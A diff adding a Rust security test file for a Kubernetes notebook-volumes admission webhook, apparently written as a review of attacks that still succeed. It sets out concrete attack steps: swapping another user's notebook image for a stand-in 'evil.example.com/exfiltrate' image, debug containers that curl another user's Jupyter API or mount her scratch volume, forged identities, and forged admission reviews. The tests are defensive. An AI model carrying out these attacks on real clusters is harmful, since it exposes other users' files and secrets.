@@ -1,0 +1,263 @@
+//! Attacks that still succeed (a security review of the guard, as a user with `edit` rights in an
+//! enabled namespace). Each test asserts the behaviour the guard should have, so it FAILS while
+//! the hole is open. See tests/e2e_attacks.rs for the ones that need the real API server.
+
+use k8s_openapi::api::core::v1::Pod;
+use kube::core::admission::Operation;
+use notebook_volumes::admission::request::{Requester, pod_request};
+use notebook_volumes::admission::{Context, Review, review};
+use notebook_volumes::keys;
+use notebook_volumes::policy::NamespaceInfo;
+
+use crate::fixtures::{Case, HUB, NS, STS, examples, pod, policy};
+
+fn requester(user: &str, groups: &[&str]) -> Requester {
+    Requester {
+        username: user.into(),
+        groups: groups.iter().map(|g| g.to_string()).collect(),
+    }
+}
+
+/// A pods UPDATE (or a `pods/ephemeralcontainers` UPDATE) from `old` to `new` by `user`.
+fn update(old: &Pod, new: &Pod, user: &str, groups: &[&str], ephemeral: bool) -> Review {
+    let case = Case::new(examples(), user).groups(groups);
+    let mut req = pod_request(new, NS, &case.requester, false, ephemeral).unwrap();
+    req.operation = Operation::Update;
+    req.old_object = Some(old.clone());
+    let ctx = Context {
+        policy: &case.policy,
+        namespace: &case.ns,
+        claims: &case.claims,
+        webhook_user: None,
+    };
+    review(ctx, &req)
+}
+
+/// alice's running notebook (the webhook wrote her name), mounting her home, the secret mergers
+/// share read-write, and an emptyDir scratch space with her work in it.
+const ALICE_NOTEBOOK: &str = "metadata:
+  name: jupyter-alice
+  labels: {component: singleuser-server}
+  annotations: {notebook-volumes.io/user: alice, hub.jupyter.org/username: alice}
+spec:
+  containers:
+  - name: notebook
+    image: quay.io/jupyter/scipy-notebook
+    volumeMounts:
+    - {name: nv-home, mountPath: /opt/app-root/src}
+    - {name: nv-share-mergers, mountPath: /opt/app-root/src/shares/mergers}
+    - {name: work, mountPath: /work}
+  volumes:
+  - {name: nv-home, persistentVolumeClaim: {claimName: home-alice}}
+  - {name: nv-share-mergers, persistentVolumeClaim: {claimName: mergers-data}}
+  - {name: work, emptyDir: {}}
+";
+
+fn with_debug(base: &str, debug: &str) -> Pod {
+    pod(&format!("{base}  ephemeralContainers: [{debug}]\n"))
+}
+
+// ---------------------------------------------------------------------------------------------
+// 1. pods UPDATE: the image of a running container is mutable, and only the two annotations are
+//    guarded. bob swaps the image of alice's notebook container for one whose entrypoint copies
+//    /opt/app-root/src (her home) and the secret mergers share to stdout (`kubectl logs`) or the
+//    network; the kubelet restarts the container with the new image, with all of alice's mounts
+//    (read-write) and environment (hub token).
+// ---------------------------------------------------------------------------------------------
+
+#[test]
+fn attack_pod_update_swaps_the_image_of_another_users_notebook() {
+    let old = pod(ALICE_NOTEBOOK);
+    let mut new = old.clone();
+    new.spec.as_mut().unwrap().containers[0].image = Some("evil.example.com/exfiltrate".into());
+    let outcome = update(&old, &new, "bob", &[], false);
+    assert!(
+        !outcome.allowed(),
+        "bob replaced the image of alice's notebook container: it restarts as bob's code with alice's home and secret share"
+    );
+    // alice herself and administrators may.
+    assert!(update(&old, &new, "alice", &[], false).allowed());
+    assert!(update(&old, &new, "root", &["system:masters"], false).allowed());
+}
+
+#[test]
+fn attack_pod_update_swaps_the_image_of_a_pod_mounting_a_share_the_requester_cannot_read() {
+    // alice's batch job (not a notebook) writes the finance share; erin has no access to it.
+    let job = pod("metadata: {name: report}
+spec:
+  initContainers: [{name: prep, image: busybox, volumeMounts: [{name: f, mountPath: /f}]}]
+  containers: [{name: job, image: busybox, volumeMounts: [{name: f, mountPath: /f}]}]
+  volumes: [{name: f, persistentVolumeClaim: {claimName: finance-data}}]
+");
+    for container in ["job", "prep"] {
+        let mut new = job.clone();
+        let spec = new.spec.as_mut().unwrap();
+        let c = spec
+            .containers
+            .iter_mut()
+            .chain(spec.init_containers.iter_mut().flatten())
+            .find(|c| c.name == container)
+            .unwrap();
+        c.image = Some("evil.example.com/exfiltrate".into());
+        assert!(
+            !update(&job, &new, "erin", &[], false).allowed(),
+            "erin (no access to finance) swapped the image of container '{container}' that mounts it read-write"
+        );
+    }
+}
+
+// ---------------------------------------------------------------------------------------------
+// 2. A debug container WITHOUT targetContainerName in another user's notebook: only targeting
+//    ones are checked against the notebook's owner. The debug container shares the pod's network
+//    namespace (Jupyter on localhost:8888, no token behind an oauth-proxy: all of alice's files,
+//    read-write, through the Jupyter API) and may mount every non-claim volume of the pod
+//    (emptyDir scratch with her work, Secrets, the projected service account token).
+// ---------------------------------------------------------------------------------------------
+
+#[test]
+fn attack_debug_container_without_target_enters_another_users_notebook() {
+    let old = pod(ALICE_NOTEBOOK);
+    let mounting = with_debug(
+        ALICE_NOTEBOOK,
+        "{name: peek, image: busybox, volumeMounts: [{name: work, mountPath: /w}]}",
+    );
+    assert!(
+        !update(&old, &mounting, "bob", &[], true).allowed(),
+        "bob mounted the emptyDir of alice's notebook in his debug container"
+    );
+    let plain = with_debug(
+        ALICE_NOTEBOOK,
+        "{name: peek, image: curlimages/curl, command: [curl, 'http://127.0.0.1:8888/api/contents/']}",
+    );
+    assert!(
+        !update(&old, &plain, "bob", &[], true).allowed(),
+        "bob's debug container runs in alice's notebook's network namespace (Jupyter on localhost)"
+    );
+    // alice and administrators may.
+    assert!(update(&old, &mounting, "alice", &[], true).allowed());
+    assert!(update(&old, &mounting, "root", &["system:masters"], true).allowed());
+}
+
+#[test]
+fn attack_debug_container_in_a_shared_process_namespace_needs_no_target() {
+    // alice's job (nobody's notebook) shares its process namespace and writes finance.
+    let job = "metadata: {name: report}
+spec:
+  shareProcessNamespace: true
+  containers: [{name: job, image: busybox, volumeMounts: [{name: f, mountPath: /f}]}]
+  volumes: [{name: f, persistentVolumeClaim: {claimName: finance-data}}]
+";
+    // erin may not target the container (checked) ...
+    let targeting = with_debug(job, "{name: d, image: busybox, targetContainerName: job}");
+    assert!(!update(&pod(job), &targeting, "erin", &[], true).allowed());
+    // ... but without a target, the debug container sees every process of the pod anyway, and
+    // /proc/<pid>/root/f is the finance share (read-write as the job's user).
+    let untargeted = with_debug(job, "{name: d, image: busybox}");
+    assert!(
+        !update(&pod(job), &untargeted, "erin", &[], true).allowed(),
+        "erin joined the shared process namespace of a pod mounting finance read-write"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 3. Identity: the shipped example Settings (examples/policies, manifests/examples) trust the
+//    StatefulSet controller, so anyone who can create a StatefulSet names any user in its pod
+//    template (DESIGN §0: identity for controller-made pods must come from a stamp the webhook
+//    writes on the owning object; not implemented).
+// ---------------------------------------------------------------------------------------------
+
+#[test]
+fn attack_statefulset_pod_template_names_another_user() {
+    // bob's StatefulSet; its pod is created by the StatefulSet controller.
+    let forged = pod("metadata:
+  name: totally-bob-0
+  labels: {notebook-name: nb}
+  annotations: {opendatahub.io/username: alice, notebook-volumes.io/secret-shares: mergers}
+spec:
+  containers: [{name: nb, image: evil.example.com/exfiltrate}]
+");
+    let outcome = Case::new(examples(), STS).review(&forged);
+    let got: Vec<String> = outcome
+        .mounts
+        .iter()
+        .map(|m| format!("{}={}", m.claim_name, if m.read_only { "ro" } else { "rw" }))
+        .collect();
+    assert!(
+        !outcome.allowed() || outcome.mounts.is_empty(),
+        "a StatefulSet anyone may create got alice's volumes: {got:?}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 4. An untrusted controller (or any shared service account, which `edit` may impersonate) is
+//    "a user": every notebook-labelled pod it creates gets ONE home, the controller's. carol's
+//    Deployment and dave's Deployment both mount it read-write: carol reads what dave's notebook
+//    saved in "his" home (ODH workbenches without a trusted StatefulSet controller all share it).
+// ---------------------------------------------------------------------------------------------
+
+#[test]
+fn attack_controller_made_notebooks_share_one_home() {
+    let rs = "system:serviceaccount:kube-system:replicaset-controller";
+    let notebook = pod("metadata:
+  name: carol-nb-5d8f-abcde
+  labels: {component: singleuser-server}
+spec:
+  containers: [{name: notebook, image: quay.io/jupyter/scipy-notebook}]
+");
+    let outcome = Case::new(examples(), rs)
+        .groups(&[
+            "system:serviceaccounts",
+            "system:serviceaccounts:kube-system",
+            "system:authenticated",
+        ])
+        .review(&notebook);
+    let homes: Vec<&str> = outcome
+        .mounts
+        .iter()
+        .filter(|m| m.source == "home")
+        .map(|m| m.claim_name.as_str())
+        .collect();
+    assert!(
+        homes.is_empty(),
+        "every pod the ReplicaSet controller creates, for any user, shares home {homes:?}"
+    );
+}
+
+// ---------------------------------------------------------------------------------------------
+// 5. The webhook never checks that the namespace is enabled (notebook-volumes.io/inject=enabled):
+//    a forged AdmissionReview (any TLS client: the NetworkPolicy admits 8443 from anywhere, no
+//    client certificates) makes it create home claims (real storage) for invented users in any
+//    namespace a Home document reaches, kube-system included when the Home has no `namespaces`.
+// ---------------------------------------------------------------------------------------------
+
+#[test]
+fn attack_forged_review_creates_claims_in_a_namespace_that_is_not_enabled() {
+    let text = format!(
+        "kind: Settings\ntrustedSpawners: [\"{HUB}\"]\nusernameAnnotations: [hub.jupyter.org/username]\nnotebookSelector: [{{matchLabels: {{component: singleuser-server}}}}]\n---\nkind: Home\nclaimNameTemplate: home-{{user}}\nmountPath: /home/jovyan\ncreate: {{size: 100Gi}}\n"
+    );
+    let snapshot = policy(&text);
+    assert!(snapshot.findings().next().is_none());
+    let mut case = Case::new(snapshot, HUB);
+    case.ns = NamespaceInfo::new("kube-system");
+    let forged = pod("metadata:
+  name: x
+  labels: {component: singleuser-server}
+  annotations: {hub.jupyter.org/username: invented-user-0001}
+spec:
+  containers: [{name: notebook, image: x}]
+");
+    let req = pod_request(&forged, "kube-system", &requester(HUB, &[]), false, false).unwrap();
+    let ctx = Context {
+        policy: &case.policy,
+        namespace: &case.ns,
+        claims: &case.claims,
+        webhook_user: None,
+    };
+    let outcome = review(ctx, &req);
+    assert!(
+        outcome.effects.is_empty(),
+        "a review for kube-system (not enabled) makes the webhook create {:?}",
+        outcome.effects
+    );
+    let _ = keys::INJECT_LABEL;
+}
